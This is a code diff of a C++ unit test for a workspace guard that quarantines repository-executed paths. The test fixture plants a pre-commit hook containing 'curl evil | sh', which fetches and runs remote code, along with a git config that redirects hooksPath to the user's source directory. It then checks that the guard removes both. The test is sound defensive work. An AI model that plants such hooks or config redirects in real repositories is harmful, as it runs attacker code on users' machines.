@@ -152,13 +152,15 @@ TEST_F(RepoConfigTest, TheGuardBindsAndSweepsRepositoryExecutedPaths) {
   EXPECT_NE(std::find(scan->pins.begin(), scan->pins.end(), ws_ + "/tools"), scan->pins.end());
   std::vector<GuardEvent> events;
   WorkspaceGuard guard({ws_}, {}, d_ / "q", [&](const GuardEvent& e) { events.push_back(e); });
-  guard.Launched(guard.BeforeLaunch(), true, scan->protect, scan->git_dirs);
+  auto token = guard.BeforeLaunch();
+  ASSERT_TRUE(token.has_value()) << token.error().message;
+  guard.Launched(*token, true, scan->protect, scan->git_dirs);
   // What a process makes meanwhile: the hook the user's next commit would run, and a repository
   // whose config points at the user's own src/.
   WriteFile(ws_ + "/.husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
   std::filesystem::create_directories(ws_ + "/planted/.git");
   WriteFile(ws_ + "/planted/.git/config", "[core]\nhooksPath = ../src\n");
-  guard.AfterProcess();
+  EXPECT_TRUE(guard.AfterProcess().has_value());
   EXPECT_FALSE(testing::Exists(ws_ + "/.husky"));
   EXPECT_EQ(testing::ReadFile(d_ / "q/.husky/pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
   EXPECT_FALSE(testing::Exists(ws_ + "/planted/.git"));
